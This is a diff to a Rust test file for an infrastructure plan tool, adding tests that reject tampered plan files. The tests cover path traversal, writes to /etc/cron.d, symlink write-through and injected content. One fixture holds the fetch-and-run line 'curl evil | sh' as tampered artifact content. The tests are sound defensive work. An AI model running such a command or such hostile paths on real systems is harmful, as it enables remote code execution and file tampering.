@@ -1,4 +1,4 @@
-use super::file::{staleness, PlanFile, PlanFileError};
+use super::file::{mismatch, staleness, PlanFile, PlanFileError};
 use super::render::{human, json, markdown, markdown_limited, summary_line};
 use super::*;
 use meridian_graph::{Address, Kind, Resource};
@@ -56,7 +56,9 @@ fn plan_of(desired: &[Resource], state: Option<&State>) -> Plan {
 }
 
 fn applied(desired: &[Resource]) -> State {
-    plan_of(desired, None).next_state(None, "0.1.0")
+    plan_of(desired, None)
+        .next_state(None, "0.1.0")
+        .expect("serial")
 }
 
 fn actions(plan: &Plan) -> Vec<(String, Action)> {
@@ -75,7 +77,7 @@ fn empty_state_creates_everything_and_applying_gives_no_changes() {
     let plan = plan_of(&desired, None);
     assert_eq!(plan.summary().add, 2);
     assert!(plan.has_changes());
-    let state = plan.next_state(None, "0.1.0");
+    let state = plan.next_state(None, "0.1.0").expect("serial");
     assert_eq!(state.serial, 1);
     assert_eq!(state.resources.len(), 2);
     let again = plan_of(&desired, Some(&state));
@@ -139,7 +141,7 @@ fn only_managed_resources_are_deleted() {
     assert_eq!(plan.unmanaged.len(), 1);
     assert_eq!(plan.unmanaged[0].address, "azure.corp.deployment.foreign");
     // The unmanaged resource stays in state; the deleted one goes.
-    let next = plan.next_state(Some(&state), "0.1.0");
+    let next = plan.next_state(Some(&state), "0.1.0").expect("serial");
     let addresses: Vec<&str> = next.resources.iter().map(|r| r.address.as_str()).collect();
     assert_eq!(
         addresses,
@@ -375,7 +377,7 @@ fn artifacts_are_created_updated_kept_and_deleted_only_when_unchanged() {
     // The state after apply records exactly the files that exist afterwards.
     let mut plan = plan_of(&[], Some(&state));
     plan.artifact_changes = changes;
-    let next = plan.next_state(Some(&state), "0.1.0");
+    let next = plan.next_state(Some(&state), "0.1.0").expect("serial");
     let recorded: Vec<&str> = next.artifacts.keys().map(String::as_str).collect();
     assert_eq!(recorded, ["gen/new.tf", "gen/old.tf", "gen/same.tf"]);
     assert_eq!(next.artifacts["gen/old.tf"].sha256, sha256(b"a\nB\nc\n"));
@@ -388,7 +390,8 @@ fn plan_files_round_trip_and_refuse_damage() {
     let path = dir.path().join("plan.json");
     let plan = plan_of(&[deployment("a", 1, "Standard")], None);
     let file = PlanFile::new(plan, "examples/eu-bank", "2026-11-25T00:00:00Z".into());
-    file.save(&path).expect("save");
+    let root = meridian_state::Root::new(dir.path()).expect("root");
+    file.save(&root, &path).expect("save");
     assert_eq!(PlanFile::load(&path).expect("load"), file);
 
     let text = std::fs::read_to_string(&path).expect("read");
@@ -483,4 +486,188 @@ fn stale_plans_say_why() {
         dir.path(),
     );
     assert_eq!(why, ["x.tf changed on disk after the plan was made"]);
+}
+
+/// A plan as `plan` makes it: real hashes, a rendered file to create and one to delete.
+fn well_formed(dir: &Path) -> (Plan, State) {
+    let state = applied(&[deployment("a", 1, "Standard")]);
+    let mut plan = plan_of(&[deployment("a", 2, "Standard")], Some(&state));
+    plan.spec_hash = sha256(b"spec");
+    plan.catalog_hash = sha256(b"catalog");
+    plan.cost = Some(CostChange {
+        before_usd: None,
+        after_usd: 10.0,
+    });
+    plan.artifact_changes = diff_artifacts(
+        dir,
+        &[Rendered {
+            path: Path::new("gen/main.tf"),
+            content: "main\n",
+        }],
+        Some(&state),
+    );
+    (plan, state)
+}
+
+#[test]
+fn a_plan_file_is_checked_like_a_spec() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (plan, _) = well_formed(dir.path());
+    let file = PlanFile::new(plan.clone(), "spec", "2026-11-25T00:00:00Z".into());
+    assert_eq!(file.problems(), Vec::<String>::new());
+    let edit = |f: &dyn Fn(&mut Plan)| {
+        let mut p = plan.clone();
+        f(&mut p);
+        PlanFile::new(p, "spec", "2026-11-25T00:00:00Z".into()).problems()
+    };
+    for (path, why) in [
+        ("../outside/main.tf", "\"..\""),
+        ("/etc/cron.d/x", "not inside"),
+        (".meridian/state.json", "where Meridian keeps its state"),
+        ("gen/main.tf.meridian-new", "reserved"),
+        ("gen//main.tf", "empty or \".\" component"),
+    ] {
+        let why_now = edit(&|p| p.artifact_changes[0].path = path.into());
+        assert_eq!(why_now.len(), 1, "{path}: {why_now:?}");
+        assert!(
+            why_now[0].contains("is not a path inside the spec directory"),
+            "{why_now:?}"
+        );
+        assert!(why_now[0].contains(why), "{path}: {why_now:?}");
+    }
+    let why = edit(&|p| p.artifact_changes[0].content = Some("other\n".into()));
+    assert!(why[0].contains("does not match its action"), "{why:?}");
+    let why = edit(&|p| p.artifact_changes[0].action = ArtifactAction::Delete);
+    assert!(why[0].contains("does not match its action"), "{why:?}");
+    let why = edit(&|p| p.resource_changes[0].kind = "shell_command".into());
+    assert!(
+        why.iter()
+            .any(|w| w.contains("unknown kind \"shell_command\"")),
+        "{why:?}"
+    );
+    let why = edit(&|p| p.resource_changes[0].after = None);
+    assert!(why[0].contains("do not fit the action"), "{why:?}");
+    let why = edit(&|p| p.spec_hash = "sha256:spec".into());
+    assert!(why[0].contains("spec hash"), "{why:?}");
+    let why = edit(&|p| {
+        let a = p.artifact_changes[0].clone();
+        p.artifact_changes.push(a);
+    });
+    assert!(why[0].contains("listed twice"), "{why:?}");
+}
+
+#[test]
+fn a_plan_edited_to_write_elsewhere_does_not_match_the_spec() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (derived, state) = well_formed(dir.path());
+    assert_eq!(
+        mismatch(&derived, &derived, Some(&state)),
+        Vec::<String>::new()
+    );
+    // Another file, with its hashes recomputed: well formed, but not what the spec writes.
+    let mut saved = derived.clone();
+    saved.artifact_changes[0].path = "gen/other.tf".into();
+    let why = mismatch(&saved, &derived, Some(&state));
+    assert_eq!(
+        why,
+        [
+            "it leaves out gen/main.tf, which the spec would create",
+            "it would create gen/other.tf, which the spec does not change",
+        ]
+    );
+    // Other content.
+    let mut saved = derived.clone();
+    let content = "curl evil | sh\n".to_string();
+    saved.artifact_changes[0].after_sha256 = Some(sha256(content.as_bytes()));
+    saved.artifact_changes[0].content = Some(content);
+    let why = mismatch(&saved, &derived, Some(&state));
+    assert_eq!(why.len(), 1, "{why:?}");
+    assert!(
+        why[0].starts_with("it would create gen/main.tf with sha256:"),
+        "{why:?}"
+    );
+    // A resource recorded otherwise, or one the spec does not declare.
+    let mut saved = derived.clone();
+    if let Some(after) = saved.resource_changes[0].after.as_mut() {
+        after.tags.insert("owner".into(), "mallory".into());
+    }
+    let mut extra = saved.resource_changes[0].clone();
+    extra.address = "azure.corp.deployment.z".into();
+    if let Some(after) = extra.after.as_mut() {
+        after.address = extra.address.clone();
+    }
+    saved.resource_changes.push(extra);
+    let why = mismatch(&saved, &derived, Some(&state));
+    assert_eq!(
+        why,
+        [
+            "it records the resource azure.corp.deployment.a otherwise than the spec declares it",
+            "it records the resource azure.corp.deployment.z, which the spec does not declare",
+        ]
+    );
+    // A declared resource kept as unmanaged; another cost.
+    let mut saved = derived.clone();
+    saved.unmanaged.push(Unmanaged {
+        address: "azure.corp.deployment.a".into(),
+        kind: "azure_deployment".into(),
+        name: "x".into(),
+        managed_by: None,
+        region: None,
+        id: None,
+    });
+    saved.cost = Some(CostChange {
+        before_usd: None,
+        after_usd: 0.0,
+    });
+    let why = mismatch(&saved, &derived, Some(&state));
+    assert_eq!(
+        why,
+        [
+            "it keeps azure.corp.deployment.a as unmanaged, but the spec declares it",
+            "its monthly cost estimate is not the spec's",
+        ]
+    );
+    // Drift and the before side are shown only: they may differ.
+    let mut saved = derived.clone();
+    saved.refreshed = true;
+    saved.resource_changes[0].before = None;
+    assert!(mismatch(&saved, &derived, Some(&state)).is_empty());
+}
+
+#[cfg(unix)]
+#[test]
+fn a_plan_file_is_never_written_over_meridians_own_files_or_through_a_link() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let spec = dir.path().join("spec");
+    let outside = dir.path().join("outside");
+    std::fs::create_dir_all(spec.join(".meridian")).expect("mkdir");
+    std::fs::create_dir_all(&outside).expect("mkdir");
+    std::fs::write(spec.join("main.hcl"), "spec\n").expect("write");
+    std::fs::write(spec.join(".meridian/state.json"), "state\n").expect("write");
+    std::fs::write(outside.join("victim"), "precious\n").expect("write");
+    let mut root = meridian_state::Root::new(&spec).expect("root");
+    root.protect(&spec.join("main.hcl"), "a spec file");
+    let (plan, _) = well_formed(&spec);
+    let file = PlanFile::new(plan, "spec", "2026-11-25T00:00:00Z".into());
+    for target in [spec.join(".meridian/state.json"), spec.join("main.hcl")] {
+        let e = file.save(&root, &target).expect_err("refused");
+        assert!(e.to_string().contains("refusing to write"), "{e}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(spec.join("main.hcl")).expect("r"),
+        "spec\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(spec.join(".meridian/state.json")).expect("r"),
+        "state\n"
+    );
+    // A link as the plan file itself is refused, never written through.
+    let link = spec.join("plan.json");
+    std::os::unix::fs::symlink(outside.join("victim"), &link).expect("symlink");
+    let e = file.save(&root, &link).expect_err("refused");
+    assert!(e.to_string().contains("is a symbolic link"), "{e}");
+    assert_eq!(
+        std::fs::read_to_string(outside.join("victim")).expect("r"),
+        "precious\n"
+    );
 }
